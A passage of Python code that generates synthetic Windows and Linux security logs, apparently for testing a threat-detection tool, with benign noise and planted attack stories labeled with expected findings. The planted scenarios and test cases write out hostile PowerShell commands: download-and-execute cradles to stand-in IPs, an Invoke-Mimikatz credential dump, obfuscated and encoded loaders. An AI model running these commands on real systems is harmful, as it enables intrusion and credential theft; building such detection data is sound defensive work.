        (3, "C:\\Windows\\System32\\dnscmd.exe", "dnscmd.exe /zoneexport corp.example backup\\corp.example.dns.bak", "SYSTEM", "cmd"),
        (2, "C:\\Windows\\System32\\repadmin.exe", "\"C:\\Windows\\system32\\repadmin.exe\" /replsummary", "grace", "explorer"),
        (2, "C:\\Windows\\System32\\dcdiag.exe", "dcdiag.exe /test:replications /q", "grace", "explorer"),
        (3, "C:\\Windows\\System32\\w32tm.exe", "C:\\Windows\\system32\\w32tm.exe /query /status", "SYSTEM", "sched"),
        (2, PS_EXE, "powershell.exe -Command Get-Service", "grace", "explorer"),
        (2, PS_EXE, f"\"{PS_EXE}\" -NoProfile -ExecutionPolicy Bypass -File C:\\Scripts\\Export-ADHealth.ps1", "SYSTEM", "sched"),
    ],
    "FS01": [
        (6, PS_EXE, "powershell.exe -NoProfile -ExecutionPolicy Bypass -File C:\\Scripts\\backup.ps1", "svc_backup", "sched"),
        (5, "C:\\Windows\\System32\\Robocopy.exe",
         "robocopy.exe \"D:\\Shares\\Finance\" \"\\\\BACKUP01\\fin$\" /MIR /R:1 /W:1 /NP /LOG+:C:\\Logs\\robocopy-fin.log", "svc_backup", "ps"),
        (3, "C:\\Windows\\System32\\Robocopy.exe",
         "robocopy.exe \"D:\\Shares\\HR\" \"\\\\BACKUP01\\hr$\" /MIR /R:1 /W:1 /NP /LOG+:C:\\Logs\\robocopy-hr.log", "svc_backup", "ps"),
        (4, SVCHOST_EXE, "C:\\Windows\\system32\\svchost.exe -k NetworkService -p -s CryptSvc", "SYSTEM", "services"),
        (3, CMD_EXE, "C:\\Windows\\system32\\cmd.exe /c C:\\Scripts\\rotate-logs.cmd", "SYSTEM", "sched"),
        (3, "C:\\Windows\\System32\\forfiles.exe", "forfiles.exe /p D:\\Logs /s /m *.log /d -30 /c \"cmd /c del @path\"", "SYSTEM", "cmd"),
        (3, WMIPRVSE_EXE, "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding", "SYSTEM", "dcom"),
    ],
    "SQL01": [
        (5, CMD_EXE, "C:\\Windows\\system32\\cmd.exe /c \"C:\\Scripts\\sql-backup.cmd\"", "svc_sql", "sched"),
        (4, "C:\\Program Files\\Microsoft SQL Server\\Client SDK\\ODBC\\170\\Tools\\Binn\\SQLCMD.EXE",
         "\"C:\\Program Files\\Microsoft SQL Server\\Client SDK\\ODBC\\170\\Tools\\Binn\\SQLCMD.EXE\" -S localhost -d master "
         "-i C:\\Scripts\\backup-all.sql -o C:\\Logs\\sql-backup.log", "svc_sql", "cmd"),
        (3, PS_EXE, "powershell.exe -NoProfile -Command \"Invoke-Sqlcmd -ServerInstance localhost -Query 'EXEC dbo.usp_IndexMaintenance'\"",
         "svc_sql", "sched"),
        (3, SVCHOST_EXE, "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s wuauserv", "SYSTEM", "services"),
        (2, WMIPRVSE_EXE, "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding", "SYSTEM", "dcom"),
    ],
    "RDS01": [
        (4, "C:\\Windows\\System32\\rdpclip.exe", "rdpclip", "*user", "termsvc"),
        (3, "C:\\Windows\\System32\\userinit.exe", "C:\\Windows\\system32\\userinit.exe", "*user", "winlogon"),
        (3, "C:\\Windows\\explorer.exe", "C:\\Windows\\Explorer.EXE", "*user", "userinit"),
        (4, OFFICE + "EXCEL.EXE", f"\"{OFFICE}EXCEL.EXE\" \"\\\\FS01\\Finance\\Reports\\Nov-2026 Close.xlsx\"", "*user", "explorer"),
        (3, "C:\\Windows\\System32\\RuntimeBroker.exe", "C:\\Windows\\System32\\RuntimeBroker.exe -Embedding", "*user", "dcom"),
        (2, "C:\\Windows\\System32\\ctfmon.exe", "\"ctfmon.exe\"", "*user", "sched"),
        (2, "C:\\Windows\\System32\\LogonUI.exe", "\"LogonUI.exe\" /flags:0x2 /state0:0xa3b91855 /state1:0x41c64e6d", "SYSTEM", "winlogon"),
    ],
    "APP01": [
        (5, "C:\\Windows\\System32\\inetsrv\\w3wp.exe",
         "c:\\windows\\system32\\inetsrv\\w3wp.exe -ap \"BillingPortal\" -v \"v4.0\" -l \"webengine4.dll\" -a "
         "\\\\.\\pipe\\iisipm5c1f0d2a-7b64-4e21-9c3a-1e6f5a9b2c11 -h \"C:\\inetpub\\temp\\apppools\\BillingPortal\\BillingPortal.config\" "
         "-w \"\" -m 0 -t 20 -ta 0", "IIS APPPOOL\\BillingPortal", "w3svc"),
        (3, "C:\\Program Files\\Java\\jdk-21\\bin\\java.exe",
         "\"C:\\Program Files\\Java\\jdk-21\\bin\\java.exe\" -Xms2g -Xmx4g -jar D:\\apps\\billing\\billing-service.jar "
         "--spring.profiles.active=prod", "SYSTEM", "services"),
        (4, CMD_EXE, "C:\\Windows\\system32\\cmd.exe /c D:\\apps\\billing\\bin\\healthcheck.cmd", "SYSTEM", "sched"),
        (2, "C:\\Windows\\System32\\inetsrv\\appcmd.exe", "C:\\Windows\\system32\\inetsrv\\appcmd.exe list apppool /state:Started",
         "grace", "cmd"),
    ],
}
PARENT_IMAGES = {
    "services": "C:\\Windows\\System32\\services.exe", "sched": SVCHOST_EXE, "dcom": SVCHOST_EXE, "termsvc": SVCHOST_EXE,
    "w3svc": SVCHOST_EXE, "winlogon": "C:\\Windows\\System32\\winlogon.exe", "userinit": "C:\\Windows\\System32\\userinit.exe",
    "explorer": "C:\\Windows\\explorer.exe", "cmd": CMD_EXE, "ps": PS_EXE,
}
CONSOLE_IMAGES = {CMD_EXE, PS_EXE, "C:\\Windows\\System32\\Robocopy.exe", "C:\\Windows\\System32\\forfiles.exe"}


def gen_benign_4688(w, target):
    r = w.rng
    servers = list(w.srv.values())
    weights = [5, 4, 3, 3, 3]
    while w.count("sec4688") < target:
        h = r.choices(servers, weights)[0]
        weight, image, cmd, who, parent = r.choices(SERVER_PROCS[h.name], [x[0] for x in SERVER_PROCS[h.name]])[0]
        if who == "*user":
            who = r.choice(["alice", "bob", "heidi", "grace"])
        t = w.t_business() if who in ACCOUNT_RID else w.t_any()
        ppid = h.cache["pids"].get(parent) or w.new_pid()
        pid = w.p4688(h, t, image, cmd, who, PARENT_IMAGES[parent], ppid, elevated=(who == "grace"))
        if image in CONSOLE_IMAGES and r.random() < 0.7:
            w.p4688(h, t + r.randint(5_000, 50_000), CONHOST_EXE, "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1",
                    who, image, pid, elevated=(who == "grace"))
    while w.count("sec4688") > target:
        for i in range(len(w.events) - 1, -1, -1):
            if w.events[i].kind == "sec4688" and not w.events[i].findings:
                del w.events[i]
                break


def gen_benign_logons(w, target):
    r = w.rng
    users = ["alice", "bob", "carol", "dave", "erin", "frank", "grace", "heidi", "ivan", "judy"]
    machines = [h.name + "$" for h in w.ws.values()]

    def n_logons():
        return w.count("sec4624") + w.count("sec4625")

    while n_logons() < target:
        t = w.t_business()
        kind = r.choices(["kerb", "machine", "ntlm", "rdp", "typo", "console"], [48, 18, 12, 7, 6, 2])[0]
        if kind == "kerb":
            u = r.choice(users)
            h = r.choice([w.srv["DC01"], w.srv["FS01"], w.srv["FS01"], w.srv["SQL01"], w.srv["APP01"]])
            w.logon(h, t, True, u, USER_IPS[u], 3)
        elif kind == "machine":
            m = r.choice(machines)
            w.logon(w.srv["DC01"], w.t_any(), True, m, w.ws[m[:-1]].ip, 3)
        elif kind == "ntlm":
            u = r.choice(users)
            h = r.choice([w.srv["FS01"], w.srv["APP01"]])
            w.logon(h, t, True, u, USER_IPS[u], 3, auth="NTLM", workstation=f"WS-{u.upper()}")
        elif kind == "rdp":
            u = r.choice(["alice", "bob", "heidi", "grace"])
            w.logon(w.srv["RDS01"], t, True, u, USER_IPS[u], 10, workstation="RDS01")
        elif kind == "typo":
            u = r.choice(users)
            if u in ("carol",):  # carol's console typos are a scripted scenario
                continue
            h = r.choice([w.srv["RDS01"], w.srv["FS01"]])
            lt, auth = (10, "Kerberos") if h.name == "RDS01" else (3, "NTLM")
            ws = "RDS01" if lt == 10 else f"WS-{u.upper()}"
            port = str(r.randint(49152, 65535))
            w.logon(h, t, False, u, USER_IPS[u], lt, auth=auth, workstation=ws, port=port)
            w.logon(h, t + r.randint(6, 40) * US + r.randint(0, 999_999), True, u, USER_IPS[u], lt, auth=auth,
                    workstation=ws, port=str(int(port) + r.randint(1, 9)))
        else:
            h = r.choice([w.srv["DC01"], w.srv["SQL01"]])
            w.logon(h, t, True, "grace", "127.0.0.1", 2, workstation=h.name)


def gen_benign_linux(w, target):
    r = w.rng
    lx = list(w.lx.values())
    scanner_pool = list(SCANNER_IPS)
    r.shuffle(scanner_pool)
    # Internet background: each scanner makes one short burst (<=3 attempts).
    for ip in scanner_pool:
        t = w.t_any()
        h = w.lx["bastion-01"]
        for k in range(r.randint(1, 3)):
            u = r.choice(SCANNER_USERS)
            w.ssh(h, t + k * r.randint(2, 9) * US + r.randint(0, 999) * 1000, u, ip, False, invalid=u not in LINUX_REAL_USERS)
    while w.count("linux_ssh") < target:
        kind = r.choices(["ansible", "deploy", "admin", "typo"], [40, 20, 22, 5])[0]
        if kind == "ansible":
            h = r.choice(lx)
            w.ssh(h, w.t_any(), "ansible", ANSIBLE_IP, True, method="publickey")
        elif kind == "deploy":
            h = r.choice([w.lx["web-01"], w.lx["web-02"]])
            w.ssh(h, w.t_business(), "deploy", JENKINS_IP, True, method="publickey")
        elif kind == "admin":
            u = r.choice(["grace", "dave", "erin"])
            h = r.choice([w.lx["bastion-01"], w.lx["bastion-01"], w.lx["db-01"], w.lx["web-01"]])
            w.ssh(h, w.t_business(), u, USER_IPS[u], True, method=r.choice(["publickey", "publickey", "password"]))
        else:
            u = r.choice(["grace", "dave", "erin"])
            h = r.choice(lx)
            t = w.t_business()
            pid = w.ssh(h, t, u, USER_IPS[u], False)
            w.ssh(h, t + r.randint(4, 20) * US + r.randint(0, 999) * 1000, u, USER_IPS[u], True, pid=pid)


# --- planted scenarios (main file) ------------------------------------------


def enc_cmd(template, payload_key):
    return template.format(b64=ps_b64(PAYLOADS[payload_key]))


def reverse_join(url):
    return f"-join ('{url[::-1]}'[-1..-{len(url) + 7}])"


def plant_main(w):
    """The attack stories. Each finding is attached to the event it fires on."""
    r = w.rng
    ws, srv, lx = w.ws, w.srv, w.lx
    F_ENC = lambda s: (P_PS, R_ENC, s)  # noqa: E731
    F_OBF = lambda s: (P_PS, R_OBF, s)  # noqa: E731

    # 1. WS-FRANK: macro document -> encoded cradle -> IOC domain, dropped implant with IOC hash -> IOC C2.
    h = ws["WS-FRANK"]
    word = w.run(h, at(9, 11, 47, 312), OFFICE + "WINWORD.EXE",
                 f"\"{OFFICE}WINWORD.EXE\" /n \"C:\\Users\\frank\\Downloads\\Campaign_Brief_Q1-2027.docm\" /o \"\"", "frank",
                 h.procs["explorer"], cwd="C:\\Users\\frank\\Downloads\\")
    ps = w.run(h, at(9, 12, 3, 88), PS_EXE, enc_cmd("powershell.exe -NoP -W Hidden -NonI -Exec Bypass -enc {b64}", "cradle_kxvr"),
               "frank", word, findings=[F_ENC("Word macro (Campaign_Brief_Q1-2027.docm) starts hidden PowerShell with -enc download cradle")],
               cwd="C:\\Users\\frank\\Documents\\")
    w.dns(h, at(9, 12, 4, 511), ps, "update.kxvrnet.top", "::ffff:192.0.2.41;",
          findings=[(P_IOC, R_DOM, "PowerShell from the Word macro resolves update.kxvrnet.top (subdomain of IOC kxvrnet.top)")])
    w.net(h, at(9, 12, 5, 20), ps, "192.0.2.41", 443, "-")
    sched = h.procs["sched"]
    w.run(h, at(9, 25, 14, 730), PS_EXE, enc_cmd("powershell.exe -ENC {b64}", "run_key"), "frank", sched,
          findings=[F_ENC("scheduled task on WS-FRANK runs -ENC payload adding a Run-key persistence")])
    impl = w.run(h, at(9, 20, 0, 517), "C:\\ProgramData\\Intel\\igfxupd.exe", "\"C:\\ProgramData\\Intel\\igfxupd.exe\" /silent",
                 "frank", sched, cwd="C:\\ProgramData\\Intel\\",
                 meta=("1.2.0.7", "Intel(R) Graphics Update Helper", "Intel(R) Graphics", "Intel Corporation", "igfxupd.exe"),
                 sha256=IOC_SHA256[1].upper(),
                 findings=[(P_IOC, R_HASH, "implant C:\\ProgramData\\Intel\\igfxupd.exe with IOC SHA256 2c26b46b... runs on WS-FRANK")])
    w.net(h, at(9, 20, 2, 264), impl, "203.0.113.66", 443, "cdn.kxvrnet.top", findings=[
        (P_IOC, R_DOM, "igfxupd.exe beacons to cdn.kxvrnet.top (IOC domain)"),
        (P_IOC, R_IP, "igfxupd.exe beacons to 203.0.113.66 (IOC IP)"),
    ])

    # 2. WS-BOB: Excel macro -> hidden PowerShell (encoded beacon), then an obfuscated loader.
    h = ws["WS-BOB"]
    xl = w.run(h, at(8, 46, 51, 904), OFFICE + "EXCEL.EXE",
               f"\"{OFFICE}EXCEL.EXE\" \"C:\\Users\\bob\\Downloads\\Order_Confirmation_7731.xlsm\"", "bob", h.procs["explorer"],
               cwd="C:\\Users\\bob\\Downloads\\")
    ps = w.run(h, at(8, 47, 9, 377), PS_EXE,
               enc_cmd("\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" -nop -w hidden -e {b64}", "ua_beacon"),
               "bob", xl, findings=[F_ENC("Excel macro (Order_Confirmation_7731.xlsm) starts PowerShell -e with a proxy-aware WebClient beacon")])
    w.net(h, at(8, 47, 10, 902), ps, "203.0.113.200", 443, "-")
    blob = base64.b64encode(MZ_STUB).decode()
    w.run(h, at(8, 48, 30, 15), PS_EXE,
          f"powershell.exe -NoProfile -WindowStyle Hidden -Command \"$b=[Convert]::FromBase64String('{blob}');"
          "$a=[Reflection.Assembly]::Load($b);$a.GetType('Loader.Program').GetMethod('Main').Invoke($null,$null)\"",
          "bob", xl, findings=[F_OBF("Excel macro runs PowerShell that decodes a PE with [Convert]::FromBase64String and loads it in memory")])

    # 3. WS-CAROL: phishing domain, IOC-hash dropper, IEX cradle and an encoded LSASS dump.
    h = ws["WS-CAROL"]
    w.dns(h, at(10, 58, 12, 640), h.procs["browser"], "secure-auth.click", "::ffff:192.0.2.88;",
          findings=[(P_IOC, R_DOM, "Chrome on WS-CAROL resolves phishing domain secure-auth.click (IOC)")])
    w.net(h, at(10, 58, 13, 5), h.procs["browser"], "192.0.2.88", 443, "-")
    drop = w.run(h, at(11, 2, 40, 118), "C:\\Users\\carol\\Downloads\\Invoice_88213.pdf.exe",
                 "\"C:\\Users\\carol\\Downloads\\Invoice_88213.pdf.exe\" ", "carol", h.procs["explorer"],
                 cwd="C:\\Users\\carol\\Downloads\\",
                 meta=("1.0.0.0", "Adobe Acrobat Reader", "-", "-", "stub.exe"), sha256=IOC_SHA256[0].upper(),
                 findings=[(P_IOC, R_HASH, "carol runs Invoice_88213.pdf.exe whose SHA256 (9f86d081...) is an IOC")])
    w.run(h, at(11, 3, 5, 402), PS_EXE,
          "powershell.exe -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.140/rev.ps1')\"",
          "carol", drop, cwd="C:\\Users\\carol\\Downloads\\",
          findings=[F_OBF("dropper starts PowerShell with an IEX (New-Object Net.WebClient).DownloadString cradle")])
    w.run(h, at(11, 5, 47, 733), PS_EXE, enc_cmd("powershell -NoProfile -WindowStyle Hidden -EncodedCommand {b64}", "lsass_dump"),
          "carol", drop, cwd="C:\\Users\\carol\\Downloads\\", integrity="High",
          findings=[F_ENC("dropper starts PowerShell -EncodedCommand that dumps LSASS with comsvcs.dll MiniDump")])

    # 4. WS-ALICE: HTA attachment -> [char]-built IEX, then an encoded reflective loader; later a task-run reverse shell.
    h = ws["WS-ALICE"]
    hta = w.run(h, at(10, 14, 58, 260), "C:\\Windows\\SysWOW64\\mshta.exe",
                "\"C:\\Windows\\SysWOW64\\mshta.exe\" \"C:\\Users\\alice\\Downloads\\Remittance_Advice.hta\" {1E460BD7-F1C3-4B2E-88BF-4E770A288AF5}{1E460BD7-F1C3-4B2E-88BF-4E770A288AF5}",
                "alice", h.procs["explorer"], cwd="C:\\Users\\alice\\Downloads\\")
    w.run(h, at(10, 15, 30, 812), PS_EXE,
          "powershell.exe -nop -c \"&([string][char]73+[char]69+[char]88) ((New-Object Net.WebClient).DownloadString('http://192.0.2.55/s'))\"",
          "alice", hta, findings=[F_OBF("HTA starts PowerShell that builds 'IEX' from [char]73+[char]69+[char]88")])
    w.run(h, at(10, 16, 2, 49), PS_EXE, enc_cmd("powershell -exec bypass -window hidden -Enc {b64}", "reflective"), "alice", hta,
          findings=[F_ENC("HTA starts PowerShell -Enc that loads a downloaded .NET assembly reflectively")])
    w.run(h, at(16, 40, 0, 455), PS_EXE, enc_cmd("powershell -w hidden -nop -sta -e {b64}", "revshell"), "alice", h.procs["sched"],
          findings=[F_ENC("scheduled task on WS-ALICE runs PowerShell -e TCP reverse shell to 192.0.2.55:443")])

    # 5. WS-ERIN: "extension setup" batch file -> encoded cradle from paste site (IOC domain) and a reversed-string cradle.
    h = ws["WS-ERIN"]
    cmdp = w.run(h, at(11, 29, 55, 601), CMD_EXE, "C:\\Windows\\system32\\cmd.exe /c \"C:\\Users\\erin\\Downloads\\vscode-ext-setup.cmd\"",
                 "erin", h.procs["explorer"], cwd="C:\\Users\\erin\\Downloads\\")
    ps = w.run(h, at(11, 30, 1, 230), PS_EXE, enc_cmd("powershell.exe -nop -w hidden -e {b64}", "cradle_paste"), "erin", cmdp,
               cwd="C:\\Users\\erin\\Downloads\\",
               findings=[F_ENC("batch file starts PowerShell -e download cradle from files.paste-drop.example")])
    w.dns(h, at(11, 30, 2, 18), ps, "files.paste-drop.example", "type:  5 paste-drop-cdn.example;::ffff:198.51.100.61;",
          findings=[(P_IOC, R_DOM, "PowerShell resolves files.paste-drop.example (IOC domain)")])
    url = "http://198.51.100.140:8080/stage2.ps1"
    w.run(h, at(11, 31, 12, 984), PS_EXE,
          f"powershell.exe -nop -w hidden -c \"$u={reverse_join(url)};IEX (New-Object Net.WebClient).DownloadString($u)\"",
          "erin", cmdp, cwd="C:\\Users\\erin\\Downloads\\",
          findings=[F_OBF("batch file starts PowerShell that reverses its URL with -join ('...'[-1..-N]) before downloading")])

    # 6. WS-DAVE: malicious shortcut with caret-obfuscated cmd, encoded BITS download; evening exfil.
    h = ws["WS-DAVE"]
    w.run(h, at(12, 10, 40, 377), CMD_EXE,
          "\"C:\\Windows\\System32\\cmd.exe\" /c p^o^w^e^r^s^h^e^l^l -nop -w hidden -c \"Start-BitsTransfer -Source "
          "http://198.51.100.140/u.exe -Destination $env:TEMP\\u.exe; & $env:TEMP\\u.exe\"",
          "dave", h.procs["explorer"], cwd="C:\\Users\\dave\\Downloads\\",
          findings=[F_OBF("shortcut runs cmd.exe with caret-obfuscated p^o^w^e^r^s^h^e^l^l (Image is cmd.exe)")])
    w.run(h, at(12, 11, 9, 640), PS_EXE, enc_cmd("powershell.exe /enc {b64}", "bits_dll"), "dave", h.procs["explorer"],
          cwd="C:\\Users\\dave\\Downloads\\", findings=[F_ENC("PowerShell /enc (slash form) downloads a DLL with BITS and runs it")])
    w.run(h, at(17, 31, 22, 93), PS_EXE, enc_cmd("powershell.exe -EncodedCommand {b64}", "exfil"), "dave", h.procs["explorer"],
          findings=[F_ENC("PowerShell -EncodedCommand zips Documents and uploads them to 203.0.113.200")])

    # 7. WS-GRACE: encoded AD dump in pwsh.
    h = ws["WS-GRACE"]
    w.run(h, at(15, 22, 41, 506), PWSH_EXE, enc_cmd(f"\"{PWSH_EXE}\" -NoLogo -NonInteractive -ec {{b64}}", "ad_dump"), "grace",
          h.procs["explorer"], integrity="High", findings=[F_ENC("pwsh.exe -ec exports all AD users and computers to CSV")])

    # 8. Windows brute force against RDS01, then the attacker moves on with svc_backup.
    h = srv["RDS01"]
    t = at(13, 40, 10, 204)
    for i in range(12):
        w.logon(h, t, False, "SVC_BACKUP" if i in (3, 8) else "svc_backup", "203.0.113.45", 3, auth="NTLM",
                workstation="DESKTOP-7QK2M1T", domain="")
        t += r.randint(7, 11) * US + r.randint(0, 999_999)
    w.logon(h, t + 19 * US, True, "svc_backup", "203.0.113.45", 10, workstation="DESKTOP-7QK2M1T",
            findings=[(P_BF, R_BF, "12 failed logons for svc_backup from 203.0.113.45 in under 2 minutes, then an RDP logon (4624 type 10) on RDS01")])
    ex = h.cache["pids"]["termsvc"] + 4 * r.randint(10, 90)
    w.p4688(h, at(13, 47, 31, 818), PS_EXE, enc_cmd("powershell.exe -nop -w hidden -ec {b64}", "recon"), "svc_backup",
            "C:\\Windows\\explorer.exe", ex, findings=[F_ENC("svc_backup's RDP session on RDS01 runs PowerShell -ec recon (whoami, Domain Admins, nltest)")])
    w.p4688(h, at(13, 55, 3, 210), PS_EXE,
            "powershell.exe -nop -exec bypass -c \"IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.140:8080/Invoke-Mimikatz.ps1'); Invoke-Mimikatz -DumpCreds\"",
            "svc_backup", "C:\\Windows\\explorer.exe", ex,
            findings=[F_OBF("svc_backup on RDS01 downloads and runs Invoke-Mimikatz via IEX DownloadString")])

    # 9. Lateral movement with svc_backup: WMI on WS-HEIDI and FS01, service/cmd on SQL01 and DC01.
    h = ws["WS-HEIDI"]
    wmi = w.run(h, at(14, 4, 58, 301), WMIPRVSE_EXE, "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding",
                "NETWORK SERVICE", h.procs["dcom"])
    w.run(h, at(14, 5, 0, 642), PS_EXE, enc_cmd("powershell -noni -nop -w 1 -enc {b64}", "gzip_stager"), "svc_backup", wmi,
          integrity="High", findings=[F_ENC("WMI (svc_backup) starts PowerShell -enc gzip stager on WS-HEIDI")])
    inner = ps_b64("IEX (Invoke-WebRequest -UseBasicParsing 'http://192.0.2.55/p.ps1').Content")
    payload = base64.b64encode(f"$s=[Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('{inner}'));IEX $s".encode()).decode()
    w.run(h, at(14, 6, 12, 75), PWSH_EXE,
          f"\"{PWSH_EXE}\" -NoLogo -c \"IEX ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('{payload}')))\"",
          "svc_backup", wmi, integrity="High",
          findings=[F_OBF("WMI (svc_backup) runs pwsh with nested [Convert]::FromBase64String + IEX (no encoded flag)")])
    w.run(h, at(14, 7, 40, 919), PS_EXE, enc_cmd("powershell.exe -nol -nop -noni -w hidden -ec {b64}", "kerberoast"), "svc_backup", wmi,
          integrity="High", findings=[F_ENC("WMI (svc_backup) starts PowerShell -ec Invoke-Kerberoast on WS-HEIDI")])
    h = srv["FS01"]
    w.p4688(h, at(14, 12, 18, 440), PS_EXE, enc_cmd("powershell.exe -NoP -NonI -W Hidden -Exec Bypass -EncodedCommand {b64}", "defender_off"),
            "svc_backup", WMIPRVSE_EXE, 4 * r.randint(900, 1400), elevated=True,
            findings=[F_ENC("WMI on FS01 (svc_backup) runs PowerShell -EncodedCommand disabling Defender")])
    h = srv["SQL01"]
    w.p4688(h, at(14, 30, 51, 7), PS_EXE, enc_cmd("powershell -nop -w hidden -encodedcommand {b64}", "sql_stage"), "svc_sql",
            CMD_EXE, 4 * r.randint(900, 1400), findings=[F_ENC("cmd.exe (xp_cmdshell) on SQL01 runs PowerShell -encodedcommand stager")])
    h = srv["DC01"]
    w.p4688(h, at(14, 41, 26, 592), PS_EXE, enc_cmd("powershell -NoP -NonI -W Hidden -Exec Bypass -enc {b64}", "dc_shadow"), "SYSTEM",
            CMD_EXE, 4 * r.randint(900, 1400), findings=[F_ENC("service-launched cmd.exe on DC01 runs PowerShell -enc ntds.dit shadow copy")])

    # 10. Web shell on APP01 (IIS app pool) with [char]-built iex.
    h = srv["APP01"]
    w.p4688(h, at(15, 40, 9, 333), PS_EXE,
            "powershell -NoP -NonI -c \"& ([string][char]105+[char]101+[char]120) (iwr -UseBasicParsing http://192.0.2.55/w.ps1).Content\"",
            "IIS APPPOOL\\BillingPortal", "C:\\Windows\\System32\\inetsrv\\w3wp.exe", 4 * r.randint(900, 1400),
            findings=[F_OBF("IIS worker (BillingPortal app pool) runs PowerShell building 'iex' from [char] codes - web shell")])

    # 11. Windows noise that must NOT fire.
    # a) carol mistypes her password twice at the console, then succeeds.
    h = ws["WS-CAROL"]
    t = at(8, 2, 11, 450)
    for _ in range(2):
        w.logon(h, t, False, "carol", "127.0.0.1", 2, workstation="WS-CAROL")
        t += r.randint(5, 12) * US
    w.logon(h, t + 6 * US, True, "carol", "127.0.0.1", 2, workstation="WS-CAROL")
    # b) henry's stale mapped-drive password: 6 failures over 20 minutes, then a success.
    h = srv["FS01"]
    t = at(10, 2, 3, 117)
    for i in range(6):
        w.logon(h, t + i * 4 * 60 * US + r.randint(0, 20) * US, False, "henry", USER_IPS["henry"], 3, auth="NTLM", workstation="WS-HENRY")
    w.logon(h, t + 21 * 60 * US, True, "henry", USER_IPS["henry"], 3, auth="NTLM", workstation="WS-HENRY")
    # c) password spray against RDS01: one source, many accounts, one failure each, no success.
    h = srv["RDS01"]
    t = at(14, 20, 2, 500)
    for u in ["administrator", "alice", "bob", "carol", "dave", "erin", "frank", "grace", "heidi", "henry", "svc_sql"]:
        w.logon(h, t, False, u, "192.0.2.15", 3, auth="NTLM", workstation="-", domain="")
        t += r.randint(12, 20) * US + r.randint(0, 999_999)
    # d) single failed logon from an IOC address (IOC hit, not brute force).
    w.logon(h, at(15, 5, 44, 871), False, "administrator", "198.51.100.23", 3, auth="NTLM", workstation="-", domain="",
            findings=[(P_IOC, R_IP, "failed NTLM logon to RDS01 from IOC IP 198.51.100.23")])

    # 12. Linux: root brute force on the bastion, plus noise.
    h = lx["bastion-01"]
    t = at(2, 14, 51, 120)
    pid = None
    for k in range(3):
        pid = w.ssh(h, t, "admin", "198.51.100.77", False, invalid=True, pid=pid if k % 3 else None)
        t += r.randint(4, 9) * US + r.randint(0, 999) * 1000
    t = at(2, 16, 2, 333)
    for k in range(8):
        pid = w.ssh(h, t, "root", "198.51.100.77", False, pid=pid if k % 3 else None)
        t += r.randint(8, 12) * US + r.randint(0, 999) * 1000
    w.ssh(h, t + 4 * US, "root", "198.51.100.77", True, findings=[
        (P_BF, R_BF, "8 failed ssh passwords for root from 198.51.100.77 within ~90 s, then Accepted password on bastion-01")])
    # spray from one source, invalid users, no success
    t = at(3, 40, 17, 0)
    for u in ["admin", "test", "oracle", "postgres", "ubuntu", "git", "ftpuser", "guest", "pi", "support"]:
        w.ssh(h, t, u, "203.0.113.99", False, invalid=u not in LINUX_REAL_USERS)
        t += r.randint(3, 8) * US + r.randint(0, 999) * 1000
    # a single attempt from an IOC address
    w.ssh(h, at(5, 10, 33, 402), "admin", "192.0.2.200", False, invalid=True,
          findings=[(P_IOC, R_IP, "ssh attempt on bastion-01 from IOC IP 192.0.2.200")])
    # bob mistypes twice on web-01, then succeeds
    h = lx["web-01"]
    t = at(9, 3, 40, 250)
    pid = w.ssh(h, t, "bob", USER_IPS["bob"], False)
    w.ssh(h, t + 4 * US, "bob", USER_IPS["bob"], False, pid=pid)
    w.ssh(h, t + 11 * US, "bob", USER_IPS["bob"], True, pid=pid)
    # jenkins with a rotated password: 6 failures over 20 minutes, then success
    h = lx["web-02"]
    t = at(1, 0, 0, 0) + 12_345_000
    for i in range(6):
        w.ssh(h, t + i * 4 * 60 * US, "jenkins", JENKINS_IP, False)
    w.ssh(h, t + 20 * 60 * US + 30 * US, "jenkins", JENKINS_IP, True)


# --- test cases ---------------------------------------------------------------


def case_encoded_powershell(w):
    h = w.ws["WS-ERIN"]
    ex, u = h.procs["explorer"], "erin"
    F_ENC = lambda s: (P_PS, R_ENC, s)  # noqa: E731
    F_OBF = lambda s: (P_PS, R_OBF, s)  # noqa: E731
    t = at(10, 0, 0, 0)
    step = lambda: 7 * US + 123_456  # noqa: E731
    items = [
        (PS_EXE, enc_cmd("powershell.exe -NoP -W Hidden -NonI -Exec Bypass -enc {b64}", "cradle_kxvr"), [F_ENC("-enc")]),
        (PS_EXE, "powershell.exe -NoProfile -ExecutionPolicy Bypass -File C:\\Scripts\\backup.ps1", []),
        (PS_EXE, enc_cmd("powershell.exe -e {b64}", "whoami"), [F_ENC("-e short flag; payload exactly 16 chars (min_payload_length)")]),
        (PS_EXE, "powershell.exe -Command \"Get-Content C:\\Logs\\app.log -Encoding UTF8 | Select-Object -Last 20\"", []),
        (PWSH_EXE, enc_cmd(f"\"{PWSH_EXE}\" -NoLogo -NonInteractive -ec {{b64}}", "recon"), [F_ENC("pwsh -ec")]),
        (PWSH_EXE, "pwsh.exe -NoLogo -Command \"[Convert]::ToBase64String([Text.Encoding]::Unicode.GetBytes('Get-Date'))\"", []),
        (PS_EXE, enc_cmd(f"\"{PS_EXE}\" -ExecutionPolicy Bypass -WindowStyle Hidden -EncodedCommand {{b64}}", "dropper"),
         [F_ENC("-EncodedCommand")]),
        (PS_EXE, enc_cmd("POWERSHELL /ENC \"{b64}\"", "defender_off"), [F_ENC("upper-case /ENC with quoted payload")]),
        (CMD_EXE, "cmd.exe /c echo ^<html^>^<body^>ok^</body^>^</html^> > C:\\inetpub\\wwwroot\\health.html", []),
        (PS_EXE, "powershell.exe -nop -c \"IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.140/a.ps1')\"",
         [F_OBF("IEX DownloadString cradle")]),
        (PS_EXE, "powershell.exe -NoProfile -Command \"$b=[Convert]::FromBase64String('" + base64.b64encode(MZ_STUB).decode()
         + "');[Reflection.Assembly]::Load($b)\"", [F_OBF("[Convert]::FromBase64String")]),
        (CMD_EXE, "cmd.exe /c p^o^w^e^r^s^h^e^l^l -nop -w hidden -c \"Start-Process calc.exe\"", [F_OBF("caret-hidden powershell in cmd.exe")]),
